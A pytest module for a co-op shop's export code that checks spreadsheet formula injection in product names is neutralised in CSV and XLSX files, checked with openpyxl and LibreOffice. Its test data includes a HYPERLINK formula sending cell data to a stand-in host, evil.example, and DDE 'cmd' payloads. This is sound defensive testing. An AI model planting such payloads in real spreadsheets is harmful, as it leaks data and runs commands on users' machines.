"""No formulas in exports (issue 11, point 6): a co-op names its products like spreadsheet
formulas, they sell, and every CSV and XLSX the shop writes shows those names as text, checked
with openpyxl and with LibreOffice itself; amounts stay numbers (a refund's minus sign is not a
formula).

The LibreOffice test needs `soffice` (Debian: libreoffice-calc-nogui, installed by .ci/run). It
fails, not skips, without it: a check that silently does not run checks nothing."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from market import clock
from market.catalog.models import Product
from market.extensions import db
from market.orders.models import Order
from market.settlements.models import Statement
from market.spreadsheets import cell_value, put, xlsx_value
from tests.campaign.conftest import (  # noqa: F401  (the campaign fixture)
    campaign,
    first_line,
    pay,
    set_targets,
)
from tests.orders.conftest import place, sku_of

FORMULA = '=HYPERLINK("http://evil.example/?d="&C2,"点击查看详情")'
# One name per character a spreadsheet starts a formula with (OWASP: = + - @ tab CR).
NAMES = [
    FORMULA,
    '+HYPERLINK("http://evil.example/","点击领取")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=3+4",
]
# Not a formula, but openpyxl would write it as an error value, not as the text it is.
ERROR_NAME = "#N/A"
# What every export must show: the names, as text.
SHOWN = {"'" + name for name in NAMES} | {ERROR_NAME}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LEDGER_SHEET = "台账明细"
SOFFICE_TIMEOUT_S = 180


def _is_number(text: str) -> bool:
    try:
        Decimal(text.replace(",", "").rstrip("%"))
    except ArithmeticError:
        return False
    return True


def _assert_no_formula_text(rows: list[list[str]], where: str) -> None:
    """No cell of a CSV starts like a formula, unless it is a number (-10.00)."""
    for row in rows:
        for cell in row:
            if cell.lstrip(" ").startswith(FORMULA_STARTS):
                assert _is_number(cell), f"{where}: {cell!r} would run as a formula"


def _csv_rows(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _column(rows: list[list[str]], header: str) -> list[str]:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:] if len(row) > index]


def _ooxml_unescape(text: str) -> str:
    """Text as Excel and LibreOffice read it: OOXML writes control characters as _xHHHH_ (Excel
    itself writes a CR so, as does xlsxwriter); openpyxl hands the escape back as it is."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def _lines(text: str) -> str:
    text = _ooxml_unescape(text)
    return text.replace("\r\n", "\n").replace("\r", "\n")  # breaks come back from XML as LF


def _new_product(app, manager, world, name: str) -> int:
    """Listed through the co-op's own pages."""
    response = manager.post(
        "/coop/products/new",
        data={
            "coop_id": world.coop,
            "name": name,
            "category_id": world.honey,
            "spec": "500g",
            "price": "39.9",
            "stock": "100",
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.get_data(as_text=True)[-1500:]
    with app.app_context():
        product_id = db.session.scalar(select(Product.id).where(Product.name == name))
    listed = manager.post(f"/coop/products/{product_id}/status", data={"status": "listed"})
    assert listed.status_code == 302
    return product_id


@pytest.fixture
def formula_sale(app, client_as, world, campaign) -> SimpleNamespace:  # noqa: F811
    """The co-op lists six formula-named products and a "#N/A"; an employee of unit A buys one
    of each in one order, pays by transfer (finance confirms), the co-op refunds ¥10 of it,
    ships, the employee receives it, and finance issues the co-op's statement."""
    manager = client_as("coop_manager")
    products = []
    for index, name in enumerate([*NAMES, ERROR_NAME]):
        if name.startswith(("\t", "\r")):
            # The product form strips surrounding whitespace; such a name can still arrive
            # another way (a later import, older data), and no export may rely on the form.
            product_id = _new_product(app, manager, world, f"待改名商品{index}")
            with app.app_context():
                db.session.get(Product, product_id).name = name
                db.session.commit()
        else:
            product_id = _new_product(app, manager, world, name)
        products.append(product_id)

    employee, finance = client_as("employee"), client_as("finance")
    for product_id in products:
        added = employee.post("/cart/add", data={"sku_id": sku_of(app, product_id), "quantity": 1})
        assert added.status_code in (302, 303)
    placed = place(employee)
    assert placed.status_code == 303, placed.get_data(as_text=True)[-1500:]
    number = placed.headers["Location"].split("/")[2]
    pay(employee, finance, number)

    line_id, _coop = first_line(app, number)
    refund = manager.post(f"/coop/lines/{line_id}/refund", data={"amount": "10", "reason": "破损"})
    assert refund.status_code in (302, 303)
    with app.app_context():
        order = db.session.scalar(select(Order).where(Order.number == number))
        assert sorted(line.product_name for line in order.lines) == sorted([*NAMES, ERROR_NAME])
        shipments = [s.id for s in order.shipments]
    for shipment_id in shipments:
        shipped = manager.post(
            f"/coop/shipments/{shipment_id}/ship",
            data={"carrier": "中国邮政", "tracking_number": "9876"},
        )
        assert shipped.status_code == 303
        received = employee.post(f"/orders/{number}/shipments/{shipment_id}/received")
        assert received.status_code in (302, 303)
    set_targets(app, campaign.id, {world.unit: 1_000_000})  # unit A on the laggard list too

    issued = finance.post(
        "/finance/statements/issue",
        data={"until": clock.today().isoformat()},
        follow_redirects=True,
    )
    assert issued.status_code == 200
    with app.app_context():
        statement_id = db.session.scalar(
            select(Statement.id).where(Statement.coop_id == world.coop).order_by(Statement.id)
        )
    assert statement_id is not None
    return SimpleNamespace(campaign=campaign.id, number=number, statement=statement_id)


def _xlsx_exports(client_as, sale) -> dict[str, bytes]:
    """Every XLSX a user can download about the sale: the organizer's assessment workbook and
    the co-op's statement."""
    files = {}
    for name, role, url in (
        ("campaign", "organizer", f"/admin/campaigns/{sale.campaign}/export.xlsx"),
        ("statement", "coop_manager", f"/settlements/{sale.statement}.xlsx"),
    ):
        response = client_as(role).get(url)
        assert response.status_code == 200, url
        files[name] = response.data
    return files


# -- the rule itself -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),  # leading spaces do not hide a formula
        ("原生态蜂蜜", "原生态蜂蜜"),
        ("a=1", "a=1"),
        ("", ""),
        (-1250, -1250),  # numbers stay numbers: a refund is not a formula
        (Decimal("-12.50"), Decimal("-12.50")),
        (None, None),
    ],
)
def test_a_cell_value_is_text_only_where_a_spreadsheet_would_see_a_formula(value, written):
    assert cell_value(value) == written
    assert type(cell_value(value)) is type(written)


# -- (a) XLSX, read with openpyxl ------------------------------------------------------------------
def test_xlsx_exports_hold_the_names_as_strings_and_no_formula(client_as, formula_sale):
    files = _xlsx_exports(client_as, formula_sale)

    book = load_workbook(io.BytesIO(files["campaign"]))
    formulas = [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    ledger = book[LEDGER_SHEET]
    header = [cell.value for cell in next(ledger.iter_rows())]
    product_col, amount_col = header.index("商品"), header.index("金额（元）")
    rows = list(ledger.iter_rows(min_row=2))
    # XML reads a CR back as LF (the CR variant's point is its first character, the apostrophe).
    assert {_lines(row[product_col].value) for row in rows} == {_lines(n) for n in SHOWN}
    assert all(row[product_col].data_type == "s" for row in rows)
    amounts = [row[amount_col] for row in rows]
    assert all(cell.data_type == "n" for cell in amounts)  # numbers, negative ones too
    assert any(cell.value < 0 for cell in amounts)  # the ¥10 refund

    sheet = load_workbook(io.BytesIO(files["statement"])).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    shown = {_lines(c.value) for c in cells if c.data_type == "s"}
    assert shown >= {_lines(n) for n in SHOWN}
    assert not any(
        c.value.lstrip(" ").startswith(FORMULA_STARTS) for c in cells if c.data_type == "s"
    )
    assert [c.coordinate for c in cells if c.data_type == "e"] == []


def test_xlsx_text_is_always_a_string_cell(tmp_path):
    """Both ways of writing a cell (write-only rows, ordinary sheets) give text the string type,
    drop what XML cannot hold instead of failing the workbook, and leave numbers numbers."""
    from openpyxl import Workbook

    values = [FORMULA, ERROR_NAME, "\x0b=1+1", "原生态蜂蜜", -1250, Decimal("-12.50")]
    streamed = Workbook(write_only=True)
    sheet = streamed.create_sheet("s")
    sheet.append([xlsx_value(sheet, value) for value in values])
    streamed.save(tmp_path / "streamed.xlsx")
    ordinary = Workbook()
    for column, value in enumerate(values, start=1):
        put(ordinary.active.cell(row=1, column=column), value)
    ordinary.save(tmp_path / "ordinary.xlsx")

    for name in ("streamed", "ordinary"):
        row = next(load_workbook(tmp_path / f"{name}.xlsx").worksheets[0].iter_rows())
        assert [(cell.data_type, cell.value) for cell in row] == [
            ("s", "'" + FORMULA),
            ("s", ERROR_NAME),
            ("s", "'=1+1"),
            ("s", "原生态蜂蜜"),
            ("n", -1250),
            ("n", -12.5),
        ], name


# -- (b) CSV ---------------------------------------------------------------------------------------
def test_csv_exports_hold_the_names_neutralised(client_as, formula_sale):
    organizer = client_as("organizer")
    base = f"/admin/campaigns/{formula_sale.campaign}"
    exports = {}
    for url in (
        f"{base}/ledger.csv",
        f"{base}/units.csv",
        f"{base}/laggards.csv",
        "/admin/audit.csv",
    ):
        response = organizer.get(url)
        assert response.status_code == 200 and response.mimetype == "text/csv", url
        exports[url] = _csv_rows(response.get_data())
    for url, rows in exports.items():
        _assert_no_formula_text(rows, url)

    ledger = exports[f"{base}/ledger.csv"]
    assert set(_column(ledger, "商品")) == SHOWN
    amounts = _column(ledger, "金额（元）")
    assert "-10.00" in amounts  # the refund, a number as it was
    assert all(_is_number(amount) for amount in amounts)
    assert len(exports[f"{base}/laggards.csv"]) > 1  # unit A is listed: the table is not empty


# -- (c) XLSX, opened by LibreOffice ---------------------------------------------------------------
def _libreoffice_csv(xlsx: bytes, stem: str, tmp_path: Path) -> dict[str, list[list[str]]]:
    """Every sheet of the workbook as LibreOffice displays it, through its CSV export (values as
    shown, formulas evaluated, all sheets). A profile of its own, so parallel runs don't meet."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.fail(
            "LibreOffice is not installed (no `soffice` on PATH): "
            "apt-get install libreoffice-calc-nogui (.ci/run installs it)"
        )
    source = tmp_path / f"{stem}.xlsx"
    source.write_bytes(xlsx)
    out = tmp_path / f"{stem}-csv"
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    # Tokens: comma, double quote, UTF-8, from line 1, -, -, -, -, as shown, no formulas, -,
    # every sheet (-1: one file per sheet, "<stem>-<sheet>.csv").
    export_filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1"
    command = [
        soffice,
        f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
        "--headless",
        "--norestore",
        "--convert-to",
        export_filter,
        "--outdir",
        str(out),
        str(source),
    ]
    done = subprocess.run(
        command,
        env={**os.environ, "HOME": str(home)},
        capture_output=True,
        text=True,
        timeout=SOFFICE_TIMEOUT_S,
        check=False,
    )
    sheets = {}
    for path in sorted(out.glob("*.csv")):
        sheet = path.stem[len(stem) + 1 :] if path.stem != stem else ""
        with path.open(encoding="utf-8-sig", newline="") as handle:
            sheets[sheet] = list(csv.reader(handle))
    assert done.returncode == 0 and sheets, f"soffice failed: {done.stdout}\n{done.stderr}"
    return sheets


def test_libreoffice_displays_the_names_not_formula_results(client_as, formula_sale, tmp_path):
    files = _xlsx_exports(client_as, formula_sale)
    expected = {_lines(name) for name in SHOWN}

    sheets = _libreoffice_csv(files["campaign"], "campaign", tmp_path)
    assert LEDGER_SHEET in sheets, sorted(sheets)
    ledger = sheets[LEDGER_SHEET]
    displayed = {_lines(value) for value in _column(ledger, "商品")}
    assert "点击查看详情" not in displayed  # what the live HYPERLINK would show
    assert displayed == expected
    for name, rows in sheets.items():
        _assert_no_formula_text(rows, f"campaign workbook, sheet {name}")

    statement = _libreoffice_csv(files["statement"], "statement", tmp_path)
    cells = {_lines(cell) for rows in statement.values() for row in rows for cell in row}
    assert cells >= expected
    for name, rows in statement.items():
        _assert_no_formula_text(rows, f"statement, sheet {name}")
